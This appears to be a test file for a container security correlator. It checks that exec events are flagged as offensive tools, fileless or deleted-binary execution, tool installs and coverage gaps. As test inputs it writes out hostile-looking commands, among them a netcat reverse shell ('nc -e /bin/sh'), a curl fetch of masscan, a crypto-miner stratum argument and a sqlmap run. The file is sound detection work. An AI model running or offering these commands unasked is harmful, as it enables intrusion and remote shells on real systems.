import t from 'tap'
import { loadToolCatalogue } from '../../src/adapters/tool-catalogue-file.js'
import { createAdmissionLookup } from '../../src/correlator/admission-lookup.js'
import { detectCoverage } from '../../src/correlator/coverage-detection.js'
import { createDetectionContext, type DetectionTools } from '../../src/correlator/detection-context.js'
import type { ExecEvent } from '../../src/correlator/exec-event.js'
import type { Observation } from '../../src/correlator/observation.js'
import { detectTool } from '../../src/correlator/tool-detection.js'
import { AFTER_START, containerOf, eventOf, podOf } from '../support/events.js'
import { policyOf } from '../support/policies.js'
import { runCommand } from '../support/run-command.js'

const expires = new Date(AFTER_START + 60_000).toISOString()
const policy = policyOf({
  allow: ['registry.corp.example/*'],
  exceptions: [{ id: 'EX-1', tools: ['nmap'], namespaces: ['team-a'], expires, reason: 'pen test', owner: 'red-team' }],
})
const tools: DetectionTools = {
  policy,
  catalogue: await loadToolCatalogue(policy.runtime),
  admissions: createAdmissionLookup(undefined, () => AFTER_START),
  asOf: undefined,
  policyPaths: [],
}
const ALLOWED = podOf({ container: containerOf({ imageName: 'registry.corp.example/redis:7' }) })

function detect(changes: Partial<ExecEvent>): readonly Observation[] {
  const event = eventOf({ pod: ALLOWED, ...changes })
  const context = createDetectionContext(tools, event)
  return [...detectTool(event, context), ...detectCoverage(event, context)]
}

t.test('what a process gives away, by kind and gravity', async t => {
  const rows: readonly (readonly [string, Partial<ExecEvent>, readonly object[]])[] = [
    [
      'a tool behind a launcher and an interpreter',
      { binary: '/usr/bin/env', arguments: 'python3 /x/sqlmap.py -u y' },
      [{ kind: 'offensive-tool', code: 'sqlmap', tool: { matchedOn: 'launcher>interpreter.script' } }],
    ],
    [
      'a weak name with proof',
      { binary: '/bin/nc', arguments: '-e /bin/sh 1.2.3.4 9' },
      [{ code: 'netcat', severity: 'high', risk: 60, certainty: 'likely', tool: { tells: ['netcat.exec'] } }],
    ],
    [
      'a command that may be none',
      { binary: '/bin/sh', arguments: '-c "echo "hi" && masscan x"' },
      [{ code: 'masscan', severity: 'low', certainty: 'unknown' }],
    ],
    [
      'an open file, with the arguments of a miner',
      { binary: '/proc/self/fd/3', arguments: '-o stratum+tcp://p:1' },
      [{ kind: 'fileless-exec', code: 'proc-fd', severity: 'high', attack: ['T1620'], tool: { tool: 'xmrig' } }],
    ],
    [
      'an open file',
      { binary: '/dev/fd/3' },
      [{ kind: 'fileless-exec', code: 'dev-fd', severity: 'medium', tool: undefined }],
    ],
    [
      'a file that is gone',
      { binary: '/tmp/.x', hardLinks: 0 },
      [{ kind: 'unlinked-exec', code: 'deleted', severity: 'medium' }],
    ],
    [
      "the runtime's own copy",
      {
        binary: '/proc/self/fd/6',
        arguments: 'init',
        hardLinks: 0,
        parent: { binary: '/usr/bin/runc', arguments: undefined, pid: 1 },
      },
      [],
    ],
    ['installing', { binary: '/sbin/apk', arguments: 'add masscan' }, [{ kind: 'tool-install', code: 'masscan' }]],
    [
      'fetching',
      { binary: '/usr/bin/curl', arguments: 'http://x/masscan' },
      [{ kind: 'tool-staging', severity: 'medium' }],
    ],
    ['looking', { binary: '/bin/which', arguments: 'masscan' }, [{ kind: 'tool-enumeration', severity: 'info' }]],
    [
      'lost arguments',
      { binary: '/usr/bin/python3', flags: ['execve', 'dataArgs'] },
      [{ kind: 'coverage', code: 'blind-exec', severity: 'low' }],
    ],
    ['a lost path', { binary: '<enomem>/<enomem>' }, [{ kind: 'coverage', code: 'blind-exec' }]],
    ['long arguments that came through', { arguments: 'x', flags: ['execve', 'dataArgs'] }, []],
    ['no pod', { pod: undefined }, [{ kind: 'coverage', code: 'podless-container', severity: 'info', risk: 0 }]],
    ['a process of the node', { binary: '/dev/fd/3', pod: undefined, docker: undefined }, []],
    [
      'arguments that were cut',
      { binary: '/x/masscan', arguments: 'x', flags: ['execve', 'truncArgs'] },
      [{ code: 'masscan', remarks: [/did not read all/] }],
    ],
  ]
  for (const [title, changes, expected] of rows) {
    const observations = detect(changes)
    t.equal(observations.length, expected.length, title)
    t.match(observations, expected, title)
  }
})

t.test('an exception for one tool covers no other of the same process', async t => {
  t.match(detect({ binary: '/x/nmap' }), [{ suppression: { exception: 'EX-1' } }])
  t.match(detect({ binary: '/bin/sh', arguments: '-c "nmap x"' }), [{ suppression: { exception: 'EX-1' } }])
  t.match(detect({ binary: '/bin/proxychains4', arguments: 'nmap x' }), [
    { code: 'proxychains', tool: { alsoTools: ['nmap'] }, suppression: undefined },
  ])
  t.match(detect({ binary: '/bin/sh', arguments: '-c "nmap x; masscan y"' }), [
    { code: 'nmap', suppression: undefined },
  ])
})

t.test('explain --exec says what the correlator would', async t => {
  const args = ['explain', '--policy', 'policies/starter.yaml', '--exec']
  const found = await runCommand([...args, '/usr/bin/env', '--args', 'timeout 5 nmap -v', '-o', 'json'])
  t.equal(found.exitCode, 1)
  t.match(JSON.parse(found.stdout), {
    binary: '/usr/bin/env',
    commands: [{ program: '/usr/bin/env' }, { program: 'timeout' }, { program: 'nmap' }],
    isComplete: true,
    profile: 'default',
    findings: [{ kind: 'offensive-tool', code: 'nmap', matchedOn: 'launcher.command', confidence: 'high' }],
  })
  const text = await runCommand([...args, '/bin/sh', '--args', '-c "nmap \u001b[31m"'])
  t.match(text.stdout, 'offensive-tool/nmap')
  t.notMatch(text.stdout, '\u001b')
  const innocent = await runCommand([...args, '/bin/ls'])
  t.equal(innocent.exitCode, 0)
  t.match(innocent.stdout, /found +nothing/)
  for (const wrong of [
    [...args, '/bin/ls', 'nginx'],
    ['explain', '--policy', 'policies/starter.yaml'],
    ['explain', '--policy', 'policies/starter.yaml', '--args', 'x', 'nginx'],
  ]) {
    t.equal((await runCommand(wrong)).exitCode, 64)
  }
})
